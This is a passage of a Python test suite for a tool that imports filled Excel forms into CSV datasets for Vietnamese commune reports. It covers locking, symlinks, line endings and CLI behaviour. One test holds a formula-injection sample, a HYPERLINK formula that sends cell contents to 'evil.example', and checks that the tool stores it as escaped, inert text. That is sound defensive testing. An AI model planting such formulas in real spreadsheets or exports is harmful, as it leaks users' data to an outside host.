        fill(make_form(data_copy, tmp_path / f"{code}.xlsx", code), {"plans_issued": n})
        for code, n in ((VINH_HOA, 14), (other, 9))
    ]
    real_load = intake.load_dataset
    reading = threading.Event()

    def slow_load(*args, **kwargs):
        dataset = real_load(*args, **kwargs)
        if reading.is_set():
            return dataset
        reading.set()
        time.sleep(1.0)  # without the lock the other import reads the same dataset meanwhile
        return dataset

    monkeypatch.setattr(intake, "load_dataset", slow_load)
    results: dict[int, object] = {}

    def run(index: int) -> None:
        try:
            results[index] = import_forms([forms[index]], data_copy)
        except BaseException as exc:  # reported by the assertion below
            results[index] = exc

    threads = [threading.Thread(target=run, args=(i,)) for i in range(2)]
    threads[0].start()
    reading.wait(5)
    threads[1].start()
    for thread in threads:
        thread.join(60)
    assert len(results) == 2 and all(isinstance(r, intake.ImportPlan) and r.written for r in results.values()), results
    assert values_of(data_copy, VINH_HOA, "2025") == {"plans_issued": 14}
    assert values_of(data_copy, other, "2025") == {"plans_issued": 9}
    backups = [b for r in results.values() for b in r.backups]
    assert len(set(backups)) == len(backups) == 2


def test_busy_dataset_refused_after_a_bounded_wait(data_copy, filled, monkeypatch, capsys):
    monkeypatch.setattr(fileio, "LOCK_TIMEOUT", 0.3)
    before = snapshot(data_copy)
    with open(data_copy / LOCK_NAME, "a") as handle:  # another import holds the lock
        fcntl.flock(handle, fcntl.LOCK_EX)
        assert main(["import", str(filled), "--data", str(data_copy)]) == 2
    err = capsys.readouterr().err
    assert "another dxnb program is changing this dataset" in err and LOCK_NAME in err
    assert snapshot(data_copy) == before


def test_import_writes_through_a_symlink(data_copy, filled, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    (data_copy / "observations.csv").rename(shared / "observations.csv")
    (data_copy / "observations.csv").symlink_to(shared / "observations.csv")
    import_forms([filled], data_copy)
    assert (data_copy / "observations.csv").is_symlink()
    assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
    assert "25882,2025,plans_issued,14" in (shared / "observations.csv").read_text(encoding="utf-8")
    assert [p.name for p in shared.iterdir()] == ["observations.csv"]  # no temporary left next to the target


def test_import_keeps_cr_only_line_endings(data_copy, filled):
    for name in ("observations.csv", "notes.csv"):
        path = data_copy / name
        path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    import_forms([filled], data_copy)
    data = (data_copy / "observations.csv").read_bytes()
    assert b"\n" not in data and data.count(b"\r") > 100
    assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED


def test_formula_typed_as_source_is_stored_inert(data_copy, tmp_path):
    link = '=HYPERLINK("http://evil.example/?q="&A1,"Quyết định")'

    def typed_as_text(wb):
        cell = wb[VALUES_SHEET].cell(row_of(wb[VALUES_SHEET], "plans_issued"), 8)
        cell.value = link
        cell.data_type = "s"  # typed after an apostrophe in Excel: the text, not a formula

    form = fill(
        make_form(data_copy, tmp_path / "f.xlsx"),
        {"plans_issued": 3},
        notes=[("khó khăn", "-- thiếu máy")],
        edit=typed_as_text,
    )
    import_forms([form], data_copy)
    rows = list(csv.DictReader((data_copy / "observations.csv").open(encoding="utf-8-sig", newline="")))
    mine = [r for r in rows if (r["unit_code"], r["period"], r["indicator"]) == (VINH_HOA, "2025", "plans_issued")]
    assert mine[0]["source"] == "'" + link and mine[0]["value"] == "3"
    notes = (data_copy / "notes.csv").read_text(encoding="utf-8")
    assert "'-- thiếu máy" in notes
    again = import_forms([form], data_copy)  # the stored, escaped text is recognised as the same
    assert not again.written and again.counts("observations.csv")["unchanged"] == 1


def test_dataset_changed_meanwhile(data_copy, filled):
    plan = plan_import([filled], data_copy)
    with (data_copy / "observations.csv").open("a", encoding="utf-8") as handle:
        handle.write(f"{VINH_HOA},2025,radio_minutes,10,hand-typed,,\n")
    edited = snapshot(data_copy)
    with pytest.raises(FormError, match="changed since the forms were checked"):
        intake.apply_import(plan)
    assert snapshot(data_copy) == edited


def test_invalid_dataset_refused(data_copy, filled, capsys):
    (data_copy / "units.csv").write_text("code,name\n", encoding="utf-8")
    before = snapshot(data_copy)
    with pytest.raises(DxnbError):
        import_forms([filled], data_copy)
    assert main(["import", str(filled), "--data", str(data_copy)]) == 2
    assert "Traceback" not in capsys.readouterr().err
    assert snapshot(data_copy) == before


def test_cli_import(data_copy, filled, capsys):
    assert main(["import", str(filled), "--data", str(data_copy)]) == 0
    out = capsys.readouterr().out
    assert f"observations.csv: {len(FILLED)} new" in out and "backups" in out
    assert main(["import", str(filled), "--data", str(data_copy)]) == 0
    assert "Nothing to change" in capsys.readouterr().out
    assert main(["check", "--data", str(data_copy)]) == 0


@pytest.mark.slow
def test_imported_form_appears_in_a_rerendered_report(data_copy, filled, tmp_path):
    """The issue's end to end: a form for a new period, filled and imported, shows in the rendered report."""
    from dxnb.batch import run_batch

    assert main(["import", "--data", str(data_copy), str(filled)]) == 0
    result = run_batch(data_copy, periods=["2025"], units=["Vĩnh Hòa"], out_dir=tmp_path / "reports", jobs=1)
    assert result.count("ok") == 1, result.failed
    page = (tmp_path / "reports" / "2025" / "25882-vinh-hoa.html").read_text(encoding="utf-8")
    assert "Xã Vĩnh Hòa — năm 2025" in page
    for text in ("92,4%", "90,6%", "1.083 chữ ký", "14 kế hoạch", "55%", "Tập huấn thêm cho người dân."):
        assert text in page, text
    assert "So với năm 2024" in page
